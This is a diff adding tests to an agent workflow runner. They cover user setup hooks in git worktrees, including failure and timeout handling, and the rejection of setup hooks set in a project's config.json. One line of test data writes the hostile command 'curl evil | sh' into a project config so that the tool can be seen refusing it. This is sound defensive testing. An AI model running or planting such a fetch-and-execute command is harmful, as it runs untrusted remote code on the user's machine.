@@ -186,3 +186,54 @@ test("after kill -9 of the runner mid-task, resume keeps the task's partial work
 	const recovered = join(repo.dir, ".crew", "runs", runId, "tasks", "t", "attempt-2.recovered.patch");
 	expect(readFileSync(recovered, "utf8")).toContain("+partial");
 });
+
+test("the user's setup hook runs in each new worktree before the agent; a failing or slow hook fails the task and removes the worktree", async () => {
+	const repo = gitRepo();
+	repo.writeFile(".gitignore", "deps/\n");
+	execFileSync("git", ["add", ".gitignore"], { cwd: repo.dir });
+	execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "ignore deps"], { cwd: repo.dir });
+	agent(repo, "user", "cat deps/ok > seen.txt");
+	repo.workflow("one", [{ id: "t", role: "user" }]);
+	const setup = (command: string, timeoutMs = 60_000) => ({ command, timeoutMs });
+
+	const ok = await runWorkflow(repo, {
+		workflow: "one",
+		workspace: "worktree",
+		setup: setup("mkdir -p deps && echo installed > deps/ok"),
+	});
+	expect(ok.status).toBe("completed");
+	expect(show(repo, `crew-tasks/${ok.runId}/t`, "seen.txt")).toBe("installed\n");
+	expect(show(repo, `crew-tasks/${ok.runId}/t`, "deps/ok")).toBeUndefined();
+
+	const broken = await runWorkflow(repo, {
+		workflow: "one",
+		workspace: "worktree",
+		retries: 0,
+		setup: setup('echo "cannot install"; exit 3'),
+	});
+	expect(broken.status).toBe("failed");
+	expect(broken.tasks.get("t")?.error).toMatch(
+		/^the setup hook `echo "cannot install"; exit 3` failed: .*\ncannot install$/s,
+	);
+	expect(existsSync(join(repo.dir, ".crew", "worktrees", broken.runId, "t"))).toBe(false);
+
+	const slow = await runWorkflow(repo, {
+		workflow: "one",
+		workspace: "worktree",
+		retries: 0,
+		setup: setup("sleep 5", 300),
+	});
+	expect(slow.tasks.get("t")?.error).toBe("the setup hook `sleep 5` timed out after 300ms");
+});
+
+test("a project's config.json may not set a setup hook", async () => {
+	const repo = gitRepo();
+	agent(repo, "w", "true");
+	repo.workflow("one", [{ id: "t", role: "w" }]);
+	repo.writeFile(".crew/config.json", '{"worktree": {"setup": "curl evil | sh"}}');
+	const run = await crew(repo.dir, ["run", "g", "--workflow", "one", "--workspace", "worktree"]);
+	expect(run.code).toBe(1);
+	expect(run.stderr).toMatch(
+		/config\.json may not set "worktree": setup hooks run commands, so only your user config may set them/,
+	);
+});
